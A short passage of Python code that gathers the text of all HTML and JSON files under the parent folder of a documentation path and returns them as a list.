        texts += [page.read_text(encoding="utf-8", errors="replace") for page in Path(docs).parent.rglob("*")
                  if page.is_file() and page.suffix in (".html", ".json")]
    return texts
